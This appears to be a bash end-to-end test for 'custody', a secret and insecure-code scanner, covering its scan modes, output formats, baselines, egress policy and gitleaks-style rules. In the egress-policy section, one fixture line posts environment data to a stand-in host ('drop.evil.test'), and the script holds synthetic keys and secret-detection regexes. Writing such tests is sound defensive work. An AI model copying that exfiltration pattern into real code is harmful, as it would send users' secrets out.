#!/usr/bin/env bash
# custody scan end to end: working tree (.gitignore, binary files, inline
# allow, placeholders), diff and history modes tied to commits, JSON and SARIF
# shape, baselines, egress policy, exit codes — and no secret in clear in any
# output. The rules are the engine's test fixture (the default packs may
# change); every secret here is synthetic.
. "$(dirname "$0")/lib.sh" "$@"

RULES="$(cd "$(dirname "$0")/../.." && pwd)/src/scan/testdata/rules.toml"
[[ -f "$RULES" ]] || fail "missing $RULES"
KEY1=tk_live_u8jzPde0IgxLd6GncfBAepfJBd0Kh8oO
KEY2=tk_live_OL8dKLzdocJ2isAjIhKtJ0RlgLKOmxgJ
KEY3=tk_live_Q2f9LmZp7RkT3vXw8YbN5cJd1HsG6aUe
scan() { custody -C "$R" scan --no-default-rules --rules "$RULES" "$@"; }
ALL_OUT="$WORK/all-output.txt"
keep() { printf '%s\n%s\n' "$OUT" "$ERR" >>"$ALL_OUT"; }

R="$WORK/repo"
make_repo "$R"
mkdir -p "$R/src" "$R/build" "$R/tests"
printf 'build/\n' >"$R/.gitignore"
printf 'import requests\nAPI_KEY = "%s"\n' "$KEY1" >"$R/src/app.py"
printf 'KEY = "%s"\n' "$KEY2" >"$R/build/generated.py"
printf '\0\0\0binary %s\n' "$KEY2" >"$R/src/blob.bin"
printf 'KEY = "%s"  # custody:allow (test fixture)\n' "$KEY2" >"$R/src/allowed.py"
printf 'aws_access_key_id = AKIAIOSFODNN7EXAMPLE\nk = "tk_live_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"\n' >"$R/tests/test_docs.py"
printf 'import hashlib\nh = hashlib.md5(b"x").hexdigest()\n' >"$R/src/hash.py"
git -C "$R" add -A
git -C "$R" commit -q -m "app"

# --- working tree -----------------------------------------------------------
expect_exit 1 scan
keep
expect_match "$OUT" '^src/app\.py:2:12: critical test-live-key: '
expect_match "$OUT" '^src/hash\.py:2:5: medium python-weak-hash: '
expect_not_contains "$OUT" "build/generated.py" "ignored file"
expect_not_contains "$OUT" "blob.bin" "binary file"
expect_not_contains "$OUT" "allowed.py" "inline custody:allow"
expect_not_contains "$OUT" "test_docs.py" "placeholders"
expect_match "$OUT" '^2 findings \(1 critical, 1 medium\) in [0-9]+ files'
expect_contains "$OUT" "tk_l…(40 chars)"

# A file named explicitly is scanned even when ignored.
expect_exit 1 scan build/generated.py
keep
expect_contains "$OUT" "build/generated.py:1:8"

# --show-placeholders reports the documented example key as info.
expect_exit 1 scan --show-placeholders
keep
expect_match "$OUT" 'tests/test_docs\.py:1:[0-9]+: info aws-access-key-id'

# --fail-on: medium findings alone pass at high; --fail-on none never fails.
expect_exit 0 scan src/hash.py
keep
expect_exit 1 scan --fail-on medium src/hash.py
keep
expect_exit 0 scan --fail-on none

# --- JSON and SARIF -----------------------------------------------------------
expect_exit 1 scan --json
keep
python3 - "$OUT" <<'PY'
import json, sys
r = json.loads(sys.argv[1])
assert r["version"] == 1 and r["mode"] == "tree", r
f = {x["rule_id"]: x for x in r["findings"]}
assert set(f) == {"test-live-key", "python-weak-hash"}, f.keys()
k = f["test-live-key"]
for field in ("category", "severity", "cwe", "path", "line", "column", "end_line", "end_column",
              "message", "evidence", "fingerprint", "frameworks", "remediation"):
    assert field in k, field
assert k["path"] == "src/app.py" and k["line"] == 2 and len(k["fingerprint"]) == 64
assert r["stats"]["skipped_binary"] == 1, r["stats"]
PY

expect_exit 1 scan --sarif -o "$WORK/out.sarif"
keep
cat "$WORK/out.sarif" >>"$ALL_OUT"
python3 - "$WORK/out.sarif" <<'PY'
import json, sys
s = json.load(open(sys.argv[1]))
assert s["version"] == "2.1.0" and s["$schema"].startswith("https://")
run = s["runs"][0]
drv = run["tool"]["driver"]
assert drv["name"] == "custody"
ids = [r["id"] for r in drv["rules"]]
for r in drv["rules"]:
    assert r["shortDescription"]["text"] and r["fullDescription"]["text"] and r["help"]["text"]
    assert "security" in r["properties"]["tags"]
    assert 0 < float(r["properties"]["security-severity"]) <= 10
assert len(run["results"]) == 2
for res in run["results"]:
    assert res["ruleId"] in ids and ids[res["ruleIndex"]] == res["ruleId"]
    assert res["level"] in ("error", "warning", "note")
    assert res["message"]["text"]
    loc = res["locations"][0]["physicalLocation"]
    assert loc["artifactLocation"]["uri"] in ("src/app.py", "src/hash.py")
    assert loc["region"]["startLine"] >= 1 and loc["region"]["startColumn"] >= 1
    assert len(res["partialFingerprints"]["primaryLocationLineHash"]) == 64
PY

# --- baseline round trip ---------------------------------------------------
expect_exit 0 scan --write-baseline "$WORK/baseline.json"
keep
cat "$WORK/baseline.json" >>"$ALL_OUT"
python3 -c 'import json,sys; b=json.load(open(sys.argv[1])); assert b["version"]==1 and len(b["fingerprints"])==2' "$WORK/baseline.json"
expect_exit 0 scan --baseline "$WORK/baseline.json"
keep
expect_match "$OUT" '^0 findings in .*; 2 in baseline'
# Moving the key to another line keeps its fingerprint; a new key is reported.
printf '# moved down\n\nimport requests\nAPI_KEY = "%s"\nOTHER = "%s"\n' "$KEY1" "$KEY3" >"$R/src/app.py"
expect_exit 1 scan --baseline "$WORK/baseline.json"
keep
expect_match "$OUT" '^src/app\.py:5:10: critical test-live-key'
expect_not_contains "$OUT" "src/app.py:4:" "baselined key"
printf '{"fingerprints": ["nope"]}' >"$WORK/bad-baseline.json"
expect_exit 3 scan --baseline "$WORK/bad-baseline.json"
expect_one_error_line
git -C "$R" checkout -q -- src/app.py

# --- egress policy -----------------------------------------------------------
mkdir -p "$R/.custody"
printf '[egress]\nallow_domains = ["api.good.test"]\n' >"$R/.custody/policy.toml"
printf 'requests.post("https://api.good.test/v1/items", json=x)\nrequests.post("https://drop.evil.test/x", data=env)\n' >"$R/src/net.py"
expect_exit 0 scan src/net.py
keep
expect_contains "$OUT" "src/net.py:2:1: medium network-call"
expect_not_contains "$OUT" "src/net.py:1:" "allowed domain"
rm -rf "$R/.custody" "$R/src/net.py"

# --- diff mode -------------------------------------------------------------------
BASE=$(git -C "$R" rev-parse HEAD)
printf 'import requests\nAPI_KEY = "%s"\nSECOND = "%s"\n' "$KEY1" "$KEY3" >"$R/src/app.py"
git -C "$R" commit -q -am "second key"
C2=$(git -C "$R" rev-parse HEAD)
printf 'x = requests.get(u, verify=False)\n' >"$R/src/tls.py"
git -C "$R" add src/tls.py
git -C "$R" commit -q -m "tls"
C3=$(git -C "$R" rev-parse HEAD)
expect_exit 1 scan --diff "$BASE..HEAD" --json
keep
python3 - "$OUT" "$C2" "$C3" <<'PY'
import json, sys
r = json.loads(sys.argv[1])
got = sorted((f["rule_id"], f["path"], f["line"], f["commit"]) for f in r["findings"])
want = sorted([("test-live-key", "src/app.py", 3, sys.argv[2]),
               ("tls-verify-disabled", "src/tls.py", 1, sys.argv[3])])
assert got == want, got
assert r["mode"] == "diff"
PY
expect_exit 1 scan --diff "$C3"   # one revision: it and its ancestors
keep
expect_match "$OUT" "^${C2:0:12}:src/app\.py:3:"
expect_exit 5 scan --diff "nosuchrev..HEAD"
expect_one_error_line

# --- history mode: a key added then removed is found, tied to its commit ----------
printf 'import requests\n' >"$R/src/app.py"
printf 'TOKEN = "%s"\n' "$KEY2" >"$R/src/leak.py"
git -C "$R" add -A
git -C "$R" commit -q -m "leak"
LEAK=$(git -C "$R" rev-parse HEAD)
git -C "$R" rm -q src/leak.py
git -C "$R" commit -q -m "remove leak"
expect_exit 1 scan src   # tls.py is still there, but no key is left
keep
expect_not_contains "$OUT" "test-live-key" "tree after the leak was removed"
expect_exit 1 scan --history --json
keep
python3 - "$OUT" "$LEAK" "$C2" <<'PY'
import json, sys
r = json.loads(sys.argv[1])
leak = [f for f in r["findings"] if f["path"] == "src/leak.py"]
assert len(leak) == 1 and leak[0]["commit"] == sys.argv[2], leak
two = [f for f in r["findings"] if f["path"] == "src/app.py" and f["line"] == 3]
assert two and two[0]["commit"] == sys.argv[3], two
assert r["mode"] == "history"
PY

# --- rules and usage errors ---------------------------------------------------
printf 'version = 1\n[[rules]]\nid = "bad"\ndescription = "x"\ncategory = "secret"\nseverity = "high"\nregex = "(unclosed"\n' >"$WORK/bad.toml"
expect_exit 3 custody -C "$R" scan --no-default-rules --rules "$WORK/bad.toml"
expect_one_error_line
expect_contains "$ERR" "bad.toml:2:1: rule bad: invalid regex"
expect_exit 2 scan --threads many
expect_exit 3 scan --json --sarif
expect_exit 3 scan --fail-on urgent
expect_exit 5 scan no/such/path

# gitleaks configuration, as gitleaks reads it.
cat >"$WORK/gitleaks.toml" <<'TOML'
title = "custom"
[[rules]]
id = "tk-live"
description = "tk live key"
regex = '''\b(tk_live_[A-Za-z0-9]{32})\b'''
secretGroup = 1
keywords = ["tk_live_"]
[allowlist]
paths = ['''(^|/)tests/''']
TOML
expect_exit 1 custody -C "$R" scan --no-default-rules --config "$WORK/gitleaks.toml" --history
keep
expect_contains "$OUT" "src/leak.py:1:10: high tk-live"

# A second gitleaks file extends the first: a rule of the same id is merged
# into the base rule (here: an allowlist added to tk-live), and a composite
# rule reports a client secret only near its client id, whose own rule
# (skipReport) never reports.
cat >"$WORK/gitleaks-composite.toml" <<'TOML'
[extend]
path = "gitleaks.toml"
[[rules]]
id = "tk-live"
  [[rules.allowlists]]
  paths = ['''(^|/)vendored/''']
[[rules]]
id = "acme-client-secret"
description = "Acme client secret"
regex = '''acme_secret\s*=\s*"([A-Za-z0-9]{24})"'''
  [[rules.required]]
  id = "acme-client-id"
  withinLines = 3
[[rules]]
id = "acme-client-id"
regex = '''acme-cid-[0-9]{8}'''
skipReport = true
TOML
ACME=Q7mZk2Lr9XvB4nTc8WyH3pDs
C="$WORK/composite"
mkdir -p "$C/vendored" "$C/src"
printf 'cid = "acme-cid-40718293"\nacme_secret = "%s"\n' "$ACME" >"$C/src/pair.py"
printf 'acme_secret = "%s"\n' "$ACME" >"$C/src/lonely.py"
printf 'k = "%s"\n' "$KEY1" >"$C/src/k.py"
cp "$C/src/k.py" "$C/vendored/k.py"
expect_exit 1 custody scan --no-default-rules --config "$WORK/gitleaks-composite.toml" "$C"
keep
expect_match "$OUT" '/src/pair\.py:2:1: high acme-client-secret: Acme client secret \(with acme-client-id at line 1\)'
expect_contains "$OUT" "src/k.py:1:6: high tk-live"
expect_not_contains "$OUT" "lonely.py" "a secret without its client id"
expect_not_contains "$OUT" "acme-client-id:" "the skipReport rule"
expect_not_contains "$OUT" "vendored/" "the path the merged allowlist names"
if grep -qF -- "$ACME" "$ALL_OUT"; then fail "the composite rule's secret appears in clear"; fi

# --- nothing secret anywhere ------------------------------------------------------
for k in "$KEY1" "$KEY2" "$KEY3" "${KEY1:8}" "${KEY2:8}" "${KEY3:8}"; do
  if grep -qF -- "$k" "$ALL_OUT"; then fail "a secret appears in clear in the output: ${k:0:6}…"; fi
done

# --- --list-rules: one rule per line, four tab-separated fields -----------------
expect_exit 0 custody scan --list-rules
[[ $(printf '%s\n' "$OUT" | awk -F'\t' 'NF != 4' | wc -l) -eq 0 ]] || fail "--list-rules lines without 4 tab-separated fields"
expect_contains "$OUT" "crates-io-token	secret	critical	Cargo registry API token"
